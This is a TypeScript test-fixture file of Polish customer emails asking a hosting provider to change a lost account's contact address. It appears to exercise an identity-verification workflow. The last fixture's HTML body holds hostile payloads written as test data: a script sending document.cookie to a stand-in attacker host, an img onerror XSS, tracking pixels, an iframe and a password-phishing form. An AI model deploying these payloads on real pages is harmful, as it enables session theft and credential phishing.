import { scans } from '../catalogue.ts'
import { notAPicture, zip } from '../traps.ts'
import { fraudulentLetters } from './fraudulent.ts'
import type { WrittenForTests } from './written.ts'

/** Letters of the end-to-end and desk tests. Their senders write to no other letter's account. */
export const lettersForTests: readonly WrittenForTests[] = [
  {
    file: 'person-bill-invoice-payment.eml',
    letter: {
      from: { name: 'Bogumiła Ćwierzyńska', address: 'bogumila.cwierzynska@nowa-poczta.example' },
      subject: 'Zmiana adresu e-mail w Panelu Klienta – nie działa mi skrzynka',
      date: 'Fri, 20 Nov 2026 08:14:27 +0100',
      mailer: 'Mozilla Thunderbird',
      charset: 'utf-8',
      transfer: 'quoted-printable',
      words: 'B',
      names: '2231',
      text: `Dzień dobry,

moja domena cwierzynska.example wygasła w październiku i razem z nią skrzynka,
którą podałam w Panelu Klienta. Nie dostaję wiadomości, więc hasła też nie
zmienię. Loguję się adresem bogumila@cwierzynska.example.

Proszę o zmianę adresu na bogumila.cwierzynska@nowa-poczta.example.
W załączniku rachunek za prąd, Państwa ostatnia faktura i potwierdzenie przelewu.

Z poważaniem
Bogumiła Ćwierzyńska
tel. 601 000 231
`,
    },
    enclosed: [
      { scan: scans.cwierzynskaBill, type: 'image/jpeg' },
      { scan: scans.cwierzynskaInvoice, type: 'application/pdf' },
      { scan: scans.cwierzynskaPayment, type: 'image/png' },
    ],
    about: {
      customerNumber: 'LS-10231',
      need: 'dead_email',
      route: 'papers',
      newEmail: 'bogumila.cwierzynska@nowa-poczta.example',
      caller: null,
      outcome: 'change_email',
    },
  },
  {
    file: 'company-ceidg.eml',
    letter: {
      from: { name: 'Mirosława Brzęczkowska', address: 'mirka.brzeczkowska@gliniane-rzeczy.example' },
      subject: 'Odzyskanie dostępu do panelu, NIP 9991030201',
      date: 'Thu, 19 Nov 2026 15:51:03 +0100',
      mailer: 'Microsoft Outlook 16.0',
      charset: 'iso-8859-2',
      transfer: 'quoted-printable',
      words: 'Q',
      names: '2047',
      text: `Dzień dobry,

przejęłam po wspólniczce sprawy sklepu gliniany-zuk.example i nie wiem, na jaki
login i adres założono konto. Firma: Gliniany Żuk Mirosława Brzęczkowska,
NIP 999-103-02-01.

Przesyłam wydruk z CEIDG z danymi niejawnymi, podpisany i opieczętowany.
Proszę o ustawienie adresu mirka.brzeczkowska@gliniane-rzeczy.example.

Mirosława Brzęczkowska
`,
    },
    enclosed: [{ scan: scans.brzeczkowskaCeidg, type: 'application/pdf' }],
    about: {
      customerNumber: 'LS-10302',
      need: 'unknown_login',
      route: 'papers',
      newEmail: 'mirka.brzeczkowska@gliniane-rzeczy.example',
      caller: null,
      outcome: 'change_email',
    },
  },
  {
    file: 'phone-route.eml',
    letter: {
      from: { name: 'Żaneta Szczygłowska', address: 'zaneta.szczyglowska@ptaki-i-my.example' },
      subject: 'Zadzwonię w sprawie konta zaneta.szczyglowska',
      date: 'Fri, 20 Nov 2026 10:02:55 +0100',
      mailer: 'The Bat! 11.4',
      charset: 'windows-1250',
      transfer: 'quoted-printable',
      words: 'Q',
      names: '2047',
      text: `Dzień dobry,

skrzynka zaneta@ptasie-radio.example przestała działać, bo domena wygasła.
Według Państwa strony mogę zadzwonić z numeru podanego w Panelu Klienta,
więc zadzwonię dziś około jedenastej.

Nowy adres: zaneta.szczyglowska@ptaki-i-my.example
Login: zaneta.szczyglowska

Pozdrawiam
Żaneta Szczygłowska
`,
    },
    enclosed: [],
    about: {
      customerNumber: 'LS-10251',
      need: 'dead_email',
      route: 'phone',
      newEmail: 'zaneta.szczyglowska@ptaki-i-my.example',
      caller: { onFile: '606 000 251', stranger: '507 000 418' },
      outcome: 'change_email',
    },
  },
  {
    file: 'id-card-uncovered.eml',
    letter: {
      from: { name: 'Stanisław Źdźbłowski', address: 'stach@laka-foto.example' },
      subject: 'Nie pamiętam loginu, przesyłam dowód',
      date: 'Fri, 20 Nov 2026 07:33:18 +0100',
      mailer: 'Apple Mail (2.3826)',
      charset: 'utf-8',
      transfer: 'quoted-printable',
      words: 'Q',
      names: '2231',
      text: `Witam,
nie znam loginu ani hasła do panelu, numer telefonu też już zmieniłem.
Domena to zdzblowski-foto.example. W załączeniu dowód i rachunek za wodę.
Proszę pisać na stach@laka-foto.example

S. Źdźbłowski

Wysłane z telefonu
`,
      html: `<html><body style="overflow-wrap: break-word;">Witam,<div>nie znam loginu ani hasła do panelu, numer telefonu też już zmieniłem.</div><div>Domena to <b>zdzblowski-foto.example</b>. W załączeniu dowód i rachunek za wodę.</div><div>Proszę pisać na stach@laka-foto.example</div><div><br></div><div>S. Źdźbłowski<br><br><div dir="ltr">Wysłane z telefonu</div></div></body></html>`,
    },
    enclosed: [
      { scan: scans.zdzblowskiCard, type: 'image/jpeg', inline: true },
      { scan: scans.zdzblowskiBill, type: 'image/webp', inline: true, disagrees: { personName: 'near' } },
    ],
    about: {
      customerNumber: 'LS-10240',
      need: 'unknown_login',
      route: 'papers',
      newEmail: 'stach@laka-foto.example',
      caller: null,
      outcome: 'change_email',
    },
  },
  {
    file: 'company-krs.eml',
    letter: {
      from: { name: 'Roch Żabiński | Trzy Żabki', address: 'roch.zabinski@mlyn-w-chmurze.example' },
      subject: 'FW: Dostęp do konta mlyn.trzyzabki - dokumenty spółki',
      date: 'Fri, 20 Nov 2026 09:20:41 +0100',
      mailer: 'Microsoft Outlook 16.0',
      charset: 'windows-1250',
      transfer: 'quoted-printable',
      words: 'Q',
      names: '2231',
      text: `Dzień dobry,

nasz serwer poczty w domenie trzy-zabki.example nie działa od wczoraj i nie
możemy się zalogować do Panelu Klienta (login mlyn.trzyzabki). Przesyłam odpis
z KRS ze stemplem oraz rachunek za telefon.

Proszę o zmianę adresu na roch.zabinski@mlyn-w-chmurze.example.

Roch Żabiński
prezes zarządu
Młyn Wodny Trzy Żabki sp. z o.o., NIP 9991040205
`,
      html: `<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1250"><style>p.MsoNormal{margin:0;font-family:Calibri}</style></head><body lang="PL"><div class="WordSection1"><p class="MsoNormal">Dzień dobry,</p><p class="MsoNormal">nasz serwer poczty w domenie trzy-zabki.example nie działa od wczoraj i nie możemy się zalogować do Panelu Klienta (login mlyn.trzyzabki). Przesyłam odpis z KRS ze stemplem oraz rachunek za telefon.</p><p class="MsoNormal">Proszę o zmianę adresu na roch.zabinski@mlyn-w-chmurze.example.</p><p class="MsoNormal">&nbsp;</p><p class="MsoNormal"><b>Roch Żabiński</b><br>prezes zarządu<br>Młyn Wodny Trzy Żabki sp. z o.o., NIP 9991040205</p></div></body></html>`,
    },
    enclosed: [
      { scan: scans.mlynKrs, type: 'application/pdf' },
      { scan: scans.mlynBill, type: 'application/octet-stream' },
    ],
    about: {
      customerNumber: 'LS-10402',
      need: 'dead_email',
      route: 'papers',
      newEmail: 'roch.zabinski@mlyn-w-chmurze.example',
      caller: null,
      outcome: 'change_email',
    },
  },
  ...fraudulentLetters,
  {
    file: 'mixed-attachments.eml',
    letter: {
      from: { name: 'Wieńczysław Kądziołka', address: 'w.kadziolka@rzemioslo.example' },
      subject: 'dokumenty do konta kadziolka (kilka załączników)',
      date: 'Fri, 20 Nov 2026 08:58:02 +0100',
      mailer: 'Webmail 4.2',
      charset: 'utf-8',
      transfer: 'base64',
      words: 'B',
      names: '2231',
      text: `Dzień dobry, wysyłam wszystko co mam: umowę najmu, fakturę, potwierdzenie (hasło podam telefonicznie) i spakowane zdjęcia. Login kadziolka, mail wienczyslaw@kadziolka.example już nie działa, proszę zmienić na w.kadziolka@rzemioslo.example.
`,
      html: `<!DOCTYPE html><html><head><title>dokumenty</title><script>document.location='https://zle-miejsce.example/?c='+document.cookie</script><style>body{background:url(https://piksel.zle-miejsce.example/tlo.png)}</style></head>
<body onload="alert('Łódź')"><p>Dzień dobry, wysyłam <b>wszystko co mam</b>: umowę najmu, fakturę, potwierdzenie (hasło podam telefonicznie) i spakowane zdjęcia.</p>
<p>Login kadziolka, mail wienczyslaw@kadziolka.example już nie działa, proszę zmienić na <a href="javascript:void(0)">w.kadziolka@rzemioslo.example</a>.</p>
<img src="https://piksel.zle-miejsce.example/o.gif?kto=pomoc" width="1" height="1"><img src=x onerror="alert(1)">
<iframe src="https://zle-miejsce.example/ramka"></iframe><form action="https://zle-miejsce.example/haslo"><input name="haslo" type="password"><button>Zaloguj</button></form></body></html>
`,
    },
    enclosed: [
      { scan: scans.kadziolkaTenancy, type: 'image/webp' },
      {
        name: 'zdjecia.zip',
        type: 'application/zip',
        bytes: zip('przeczytaj.txt', 'Tu miały być zdjęcia.\n'),
        unusable: 'archive',
      },
      { scan: scans.kadziolkaInvoice, type: 'image/png' },
      { name: 'zdjęcie umowy.jpg', type: 'image/jpeg', bytes: notAPicture(), unusable: 'not_image_or_pdf' },
      { scan: scans.kadziolkaLockedPdf, type: 'application/pdf', unusable: 'password_protected' },
    ],
    about: {
      customerNumber: 'LS-10270',
      need: 'dead_email',
      route: 'papers',
      newEmail: 'w.kadziolka@rzemioslo.example',
      caller: null,
      outcome: 'ask_more',
    },
  },
]
